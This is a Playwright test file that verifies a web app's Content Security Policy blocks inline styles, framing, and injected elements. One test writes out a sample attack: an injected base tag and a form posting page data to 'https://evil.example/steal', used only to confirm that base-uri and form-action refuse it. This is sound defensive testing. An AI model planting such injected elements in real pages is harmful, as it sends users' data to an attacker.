import { expect, test } from './harness/fixtures';
import { checkNow, startDemo } from './harness/flows';

declare global {
  interface Window {
    __wtCspViolations: string[];
  }
}

test('the window runs under its strict CSP and no screen violates it', async ({ harness }) => {
  const { page } = harness;
  await page.addInitScript(() => {
    window.__wtCspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.__wtCspViolations.push(`${event.violatedDirective}: ${event.blockedURI}`),
    );
  });
  const demo = await startDemo(harness);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain("style-src 'self'");
  expect(csp).toContain("base-uri 'none'");
  expect(csp).toContain("form-action 'none'");
  // Chromium ignores frame-ancestors in a meta tag and logs an error: the page sends it as a header.
  expect(csp).not.toContain('frame-ancestors');

  await harness.sandbox().control.deliverNow();
  await checkNow(demo);
  await demo.getByRole('button', { name: /Open webhook .*payouts/ }).click();
  await page.getByRole('button', { name: 'Edit URL and events' }).click();
  await page.getByRole('button', { name: 'Reveal' }).click();
  const nav = page.getByRole('navigation', { name: 'Main' });
  for (const screen of ['Activity', 'Accounts', 'Settings', 'Dashboard']) {
    await nav.getByRole('button', { name: screen }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(screen);
  }
  expect(await page.evaluate(() => window.__wtCspViolations)).toEqual([]);

  // The control: an inline style attribute is refused and reported, so the empty list above means something.
  await page.evaluate(() => document.body.setAttribute('style', 'color: red'));
  await expect.poll(() => page.evaluate(() => window.__wtCspViolations.length)).toBeGreaterThan(0);
  harness.ignoreConsoleErrors(/Content Security Policy/);
});

test('an injected <base> or form cannot send the page or its data elsewhere', async ({ harness }) => {
  const { page } = harness;
  harness.ignoreConsoleErrors(/Content Security Policy/);
  await harness.open();
  const ours = page.url();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.violatedDirective));
    const baseElement = document.createElement('base');
    baseElement.href = 'https://evil.example/';
    document.head.append(baseElement);
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://evil.example/steal';
    document.body.append(form);
    form.requestSubmit();
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { seen, baseURI: document.baseURI };
  });
  expect(violations.seen).toEqual(expect.arrayContaining(['base-uri', 'form-action']));
  expect(violations.baseURI).not.toContain('evil.example');
  expect(page.url()).toBe(ours);
});

test('no other page can frame the window: frame-ancestors comes as a response header', async ({
  harness,
}) => {
  const { page } = harness;
  await harness.open();
  const url = page.url().replace(/#.*$/, '');
  const response = await page.request.get(url);
  expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'");

  // A page elsewhere that frames ours gets Chromium's error page, never the window.
  const framer = await page.context().newPage();
  const refusals: string[] = [];
  framer.on('console', (message) => refusals.push(message.text()));
  await framer.setContent(`<iframe src="${url}" title="framed"></iframe>`);
  const framed = framer.frameLocator('iframe[title="framed"]');
  await expect.poll(() => refusals.join('\n')).toMatch(/frame-ancestors/);
  await expect(framed.locator('#app')).toHaveCount(0);
  await framer.close();
});
